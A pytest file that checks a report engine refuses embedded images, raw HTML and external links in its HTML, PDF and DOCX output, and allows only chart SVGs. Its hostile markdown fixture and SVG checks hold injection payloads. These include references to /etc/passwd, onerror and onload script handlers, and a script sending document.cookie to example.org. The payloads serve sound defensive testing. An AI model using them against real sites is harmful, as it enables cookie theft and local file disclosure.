"""A report cannot embed a local file or a remote resource in any output: images and raw HTML in the
writer's text are refused; the only pictures are the charts of chart directives."""

from __future__ import annotations

import io
import re
import subprocess
import zipfile

import pikepdf
import pytest

from asylon.reports.reporting.docx import DocxRefused, check_tree
from asylon.reports.reporting.engine import build_report, report_docx, report_pdf
from asylon.reports.reporting.html import sanitise
from asylon.reports.reporting.resolve import safe_svg
from asylon.reports.tests.reporting.fakes import FakeSources

HOSTILE = """# Figures

![](/etc/passwd)

![x](file:///etc/passwd)

![](http://example.org/x.png) and ![ref][img]

[img]: http://example.org/y.png

<img src="file:///etc/passwd">

Inline <img src=/etc/passwd onerror=alert(1)> and <iframe src="http://example.org/"></iframe>

<script>document.location='http://example.org/?'+document.cookie</script>

<object data="/etc/passwd"></object> <link rel=stylesheet href=http://example.org/s.css>

[a link](file:///etc/passwd) <file:///etc/passwd>

{{chart measure=event by=year}}
"""
PASSWD_MARKERS = ("root:x:0", "/bin/bash", "nologin")


def hostile_report():
    return build_report(actor=None, organisation=None, markdown=HOSTILE, title="Hostile", sources=FakeSources())


def test_markdown_and_html_embed_nothing_and_name_each_refusal():
    built = hostile_report()
    for text in (built.markdown, built.html, built.print_html):
        lowered = text.lower()
        for marker in ("<img", "<iframe", "<script", "<object", "<link", "src=", 'href="file', 'href="http'):
            assert marker not in lowered, (marker, text)
        assert "example.org/x.png" not in text and "example.org/y.png" not in text
    assert "![" not in built.markdown  # the escaped text of a refused picture is \\!\\[
    pictures = [error for error in built.errors if "pictures are not allowed" in error]
    assert [error.split(":")[0] for error in pictures] == ["Line 3", "Line 5", "Line 7"]
    html = [error.split(":")[0] for error in built.errors if "HTML is not allowed" in error]
    assert html == ["Line 11", "Line 13", "Line 15", "Line 17"]
    assert built.html.count("<svg") == 1  # the chart, and only it


def test_the_sanitiser_keeps_only_in_page_links():
    html = sanitise(
        '<p><a href="http://example.org/">x</a><a href="#fn1">1</a>'
        '<img src="/etc/passwd"><span onclick="x()">y</span></p>'
    )
    assert html == '<p><a>x</a><a href="#fn1">1</a><span>y</span></p>'


def test_an_svg_that_could_run_or_fetch_is_left_out():
    assert safe_svg("<svg><script>alert(1)</script></svg>") == ""
    assert safe_svg('<svg><image href="file:///etc/passwd"/></svg>') == ""
    assert safe_svg('<svg onload="x()"></svg>') == ""
    assert (
        safe_svg('<?xml version="1.0"?><svg><use xlink:href="#glyph"/></svg>')
        == '<svg><use xlink:href="#glyph"/></svg>'
    )


def test_the_charts_of_charts_py_pass_the_svg_check():
    from asylon.reports.charts import chart_svg
    from asylon.reports.tests.protected_tables import one_way, two_way

    for table in (one_way(), two_way()):
        svg = chart_svg(table, title="Чарт ąč")
        assert safe_svg(svg) == svg[svg.find("<svg") :]


def test_a_chart_that_fails_the_check_is_an_error_not_a_blank():
    class Hostile(FakeSources):
        def chart_svg(self, table, *, title):
            return '<svg><image href="http://example.org/x.png"/></svg>'

    built = build_report(
        actor=None, organisation=None, markdown="\n\n{{chart measure=event by=year}}", title="t", sources=Hostile()
    )
    assert built.errors == ["Line 3: the chart could not be drawn safely."]
    assert "example.org" not in built.html and built.charts == [] and built.footnotes == []


@pytest.mark.parametrize(
    "node",
    [
        {"t": "RawBlock", "c": ["openxml", "<w:p/>"]},
        {"t": "RawInline", "c": ["html", "<img>"]},
        {"t": "Link", "c": [["", [], []], [], ["http://example.org", ""]]},
        {"t": "Image", "c": [["", [], []], [], ["/etc/passwd", ""]]},
    ],
)
def test_the_docx_tree_check_refuses_raw_content_links_and_foreign_images(node):
    with pytest.raises(DocxRefused):
        check_tree({"blocks": [{"t": "Para", "c": [node]}]}, allowed_images={"data:image/png;base64,AAAA"})


@pytest.mark.sqlite_only
def test_the_pdf_embeds_no_image_and_no_file(tmp_path):
    pdf_bytes = report_pdf(hostile_report())
    with pikepdf.open(io.BytesIO(pdf_bytes)) as pdf:
        images = [
            name
            for page in pdf.pages
            for name, xobject in (page.resources.get("/XObject") or {}).items()
            if xobject.get("/Subtype") == "/Image"
        ]
        assert images == []  # the chart is vector SVG; nothing else may be a picture
    path = tmp_path / "report.pdf"
    path.write_bytes(pdf_bytes)
    text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout
    for marker in PASSWD_MARKERS:
        assert marker not in text
    assert "pictures are not allowed" in text


@pytest.mark.sqlite_only
def test_the_docx_holds_only_the_chart_and_no_external_relationship():
    built = hostile_report()
    with zipfile.ZipFile(io.BytesIO(report_docx(built))) as docx:
        names = docx.namelist()
        media = [name for name in names if name.startswith("word/media/")]
        assert len(media) == 1 and media[0].endswith(".png")
        assert docx.read(media[0]) == built.charts[0].png
        for name in names:
            if name.endswith(".rels"):
                assert b'TargetMode="External"' not in docx.read(name)
        document = docx.read("word/document.xml").decode()
        for marker in PASSWD_MARKERS:
            assert marker not in document
        assert not re.search(r"example\.org/[xy]\.png", document)


def test_the_html_carries_no_inline_style_for_the_strict_csp():
    built = hostile_report()
    aligned = build_report(
        actor=None, organisation=None, markdown="| a | b |\n|:-|-:|\n| 1 | 2 |", title="t", sources=FakeSources()
    )
    for html in (built.html, aligned.html):
        assert "style=" not in html and "<style" not in html
